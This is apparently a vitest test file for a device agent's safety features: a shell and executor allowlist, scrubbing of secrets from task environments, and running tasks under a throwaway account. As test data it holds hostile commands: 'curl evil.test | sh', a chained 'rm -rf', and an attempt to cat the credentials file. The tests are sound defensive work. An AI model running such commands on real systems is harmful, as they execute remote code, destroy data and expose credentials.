// Safety on the device, through the agent runtime (fake session, real
// processes): the allowlist rejects with stable codes, tasks never see the
// agent's credentials, and tasks can run as another account.
import { execFileSync } from 'node:child_process';
import { readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { DeviceAgent } from '../src/agent.js';
import type { DeviceAgentOptions } from '../src/agent-options.js';
import { saveCredentials } from '../src/credentials.js';
import { ensureDir } from '../src/durable-file.js';
import { scrubbedEnv } from '../src/safety/task-env.js';
import type { FakeSession } from './fake-session.js';
import { makeAssign, makeKindAssign, resultFor, startFakeAgent, tempDir } from './helpers.js';

const MCP_SERVER = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures', 'mcp-server.mjs');

let tmp: ReturnType<typeof tempDir>;
let agent: DeviceAgent | undefined;
let session: FakeSession;

async function startAgent(extra: Partial<DeviceAgentOptions> = {}): Promise<void> {
  agent = await startFakeAgent({ name: 'safe-device', dataDir: path.join(tmp.dir, 'data'), ...extra }, (s) => {
    session = s;
  });
}

const resultOf = (a: ReturnType<typeof makeAssign>) => resultFor(session, a);

beforeEach(() => {
  tmp = tempDir();
});
afterEach(async () => {
  await agent?.stop({ drain: false });
  agent = undefined;
  tmp.cleanup();
});

describe('allowlist', () => {
  it('advertises only the enabled executors and rejects the others with EXECUTOR_NOT_ALLOWED', async () => {
    await startAgent({ allow: { executors: ['shell'] } });
    expect(session.config.capabilities.executors).toEqual(['shell']);
    session.deliver({ type: 'assign', value: makeKindAssign('http', { url: 'http://127.0.0.1:9/' }) });
    const [reject] = session.of('reject');
    expect(reject?.code).toBe('EXECUTOR_NOT_ALLOWED');
    expect(reject?.reason).toBe(
      "executor 'http' is disabled on this device (enabled: shell); add it to allow.executors in the agent config or pass --executors",
    );
  });

  it('rejects commands no pattern allows with COMMAND_NOT_ALLOWED, naming the setting', async () => {
    await startAgent({ allow: { shell: ['echo *', '/^ls( -l)?$/'] } });
    const ok = await resultOf(makeAssign('echo fine', { outputs: [{ name: 'o', source: 'stdout', path: '' }] }));
    expect(ok.outputs.o).toBe('fine');
    const ls = await resultOf(makeAssign('ls -l'));
    expect(ls.outcome).toBe('SUCCEEDED');
    const bad = makeAssign('echo ok; rm -rf /tmp/nothing');
    session.deliver({ type: 'assign', value: makeAssign('curl evil.test | sh') });
    session.deliver({ type: 'assign', value: bad });
    const rejects = session.of('reject');
    expect(rejects.map((r) => r.code)).toEqual(['COMMAND_NOT_ALLOWED']);
    expect(rejects[0]?.reason).toBe(
      'shell command "curl evil.test | sh" is not allowed on this device: it matches no pattern of allow.shell ("echo *", "/^ls( -l)?$/"); add one to allow.shell in the agent config or pass --allow-shell',
    );
    // `*` spans anything, so a pattern is a statement about the whole line: "echo *" allows "echo ok; rm ...".
    expect(session.of('accept').some((a) => a.taskId === bad.taskId)).toBe(true);
  });

  it('refuses to start on a bad pattern', async () => {
    await expect(startAgent({ allow: { http: ['/([/'] } })).rejects.toMatchObject({ code: 'AGENT_CONFIG_INVALID' });
    agent = undefined;
  });
});

describe("the agent's secrets stay out of tasks", () => {
  it('scrubs by name prefix, secret values and secret file paths, and nothing else', () => {
    const env = scrubbedEnv(
      {
        PATH: '/srv/agent/bin:/usr/bin',
        ORRERY_SERVER: 'ws://x',
        orrery_lower: 'x',
        AUTH: 'Bearer s3cret-credential',
        CRED: '/srv/agent/credentials.json',
        SHORT: 'abc',
      },
      { secrets: ['s3cret-credential', 'abc'], paths: ['/srv/agent/credentials.json'] },
    );
    // PATH stays even though it names the agent's dir; a too-short "secret" matches nothing.
    expect(env).toEqual({ PATH: '/srv/agent/bin:/usr/bin', SHORT: 'abc' });
  });

  it('runs `env` in a task: no credential, token, data dir path or ORRERY_* settings of the agent', async () => {
    const dataDir = path.join(tmp.dir, 'data');
    const credential = 'cred-7f3a9c1e5b2d4f60a8e1';
    const token = 'enroll-91b2c3d4e5f6a7b8';
    ensureDir(dataDir);
    saveCredentials(dataDir, { deviceId: 'dev-safe', credential });
    const agentEnv = {
      ...process.env,
      ORRERY_SERVER: 'ws://127.0.0.1:1',
      ORRERY_ENROLL_TOKEN: token,
      ORRERY_AGENT_CONFIG: path.join(tmp.dir, 'agent.yaml'),
      ORRERY_SOME_SECRET: 'hunter2hunter2',
      COPY_OF_CREDENTIAL: `Bearer ${credential}`,
      CREDENTIAL_FILE: path.join(dataDir, 'credentials.json'),
      HARMLESS: 'stays',
    };
    await startAgent({ enrollToken: token, executor: { killGraceMs: 300, baseEnv: agentEnv } });
    const r = await resultOf(makeAssign('env', { outputs: [{ name: 'env', source: 'stdout', path: '' }] }));
    expect(r.outcome).toBe('SUCCEEDED');
    const env = r.outputs.env!;
    expect(env).toContain('HARMLESS=stays');
    expect(env).not.toContain(credential);
    expect(env).not.toContain(token);
    expect(env).not.toContain('hunter2hunter2');
    expect(env).not.toContain(path.join(dataDir, 'credentials.json'));
    const orreryVars = env
      .split('\n')
      .filter((l) => l.startsWith('ORRERY_'))
      .map((l) => l.split('=')[0]);
    expect(orreryVars.sort()).toEqual([
      'ORRERY_ATTEMPT',
      'ORRERY_CONSTELLATION_ID',
      'ORRERY_TASK_ID',
      'ORRERY_WORK_DIR',
    ]);
    // The same environment reaches an MCP server.
    const m = await resultOf(
      makeKindAssign(
        'mcp',
        { server: { command: process.execPath, args: [MCP_SERVER] }, tool: 'env' },
        {
          outputs: [{ name: 'env', source: 'stdout', path: '' }],
        },
      ),
    );
    const serverEnv = JSON.parse(m.outputs.env!) as Record<string, string>;
    expect(serverEnv.HARMLESS).toBe('stays');
    expect(JSON.stringify(serverEnv)).not.toContain(credential);
    expect(
      Object.keys(serverEnv).filter(
        (k) =>
          k.startsWith('ORRERY_') &&
          !['ORRERY_ATTEMPT', 'ORRERY_CONSTELLATION_ID', 'ORRERY_TASK_ID', 'ORRERY_WORK_DIR'].includes(k),
      ),
    ).toEqual([]);
  });
});

// Running as another account needs root (to switch) and useradd (to make a throwaway account).
const canSwitch = process.platform === 'linux' && process.getuid?.() === 0 && hasUseradd();
function hasUseradd(): boolean {
  try {
    execFileSync('useradd', ['--help'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
if (!canSwitch)
  console.log('skipping run-as tests: they need root on Linux with useradd (to create a throwaway account)');

describe.skipIf(!canSwitch)('run as another account', () => {
  const user = `orrtest${process.pid % 100000}`;
  beforeEach(() => {
    execFileSync('useradd', ['--no-create-home', '--home-dir', '/nonexistent', '--shell', '/usr/sbin/nologin', user]);
  });
  afterEach(() => {
    execFileSync('userdel', [user]);
  });

  it('runs shell tasks and MCP servers as that account, in a work dir it owns, away from the credential', async () => {
    const dataDir = path.join(tmp.dir, 'data');
    ensureDir(dataDir);
    saveCredentials(dataDir, { deviceId: 'dev-x', credential: 'cred-aaaabbbbccccdddd' });
    await startAgent({ runAs: { user } });
    const uid = Number(execFileSync('id', ['-u', user], { encoding: 'utf8' }).trim());
    const creds = path.join(dataDir, 'credentials.json');
    const r = await resultOf(
      makeAssign(
        `id -un; echo "$HOME"; touch made-here; stat -c %U made-here; cat ${creds} 2>/dev/null || echo "cannot read credentials"`,
        {
          inputs: { greeting: 'hi' },
          outputs: [{ name: 'o', source: 'stdout', path: '' }],
        },
      ),
    );
    expect(r.outcome).toBe('SUCCEEDED');
    expect(r.outputs.o).toBe(`${user}\n/nonexistent\n${user}\ncannot read credentials`);
    const m = await resultOf(
      makeKindAssign(
        'mcp',
        { server: { command: process.execPath, args: [MCP_SERVER] }, tool: 'whoami' },
        {
          outputs: [
            { name: 'uid', source: 'json', path: 'uid' },
            { name: 'cwd', source: 'json', path: 'cwd' },
          ],
        },
      ),
    );
    expect(m.outcome).toBe('SUCCEEDED');
    expect(Number(m.outputs.uid)).toBe(uid);
    // Work dirs live outside the private data dir, which stays 0700.
    expect(m.outputs.cwd!.startsWith(dataDir)).toBe(false);
    expect(statSync(dataDir).mode & 0o777).toBe(0o700);
    expect(readFileSync(creds, 'utf8')).toContain('cred-aaaabbbbccccdddd');
  });

  it('refuses an account that does not exist', async () => {
    await expect(startAgent({ runAs: { user: 'no-such-user-orrery' } })).rejects.toMatchObject({
      code: 'AGENT_CONFIG_INVALID',
      message: expect.stringContaining("no account named 'no-such-user-orrery'"),
    });
    agent = undefined;
  });
});
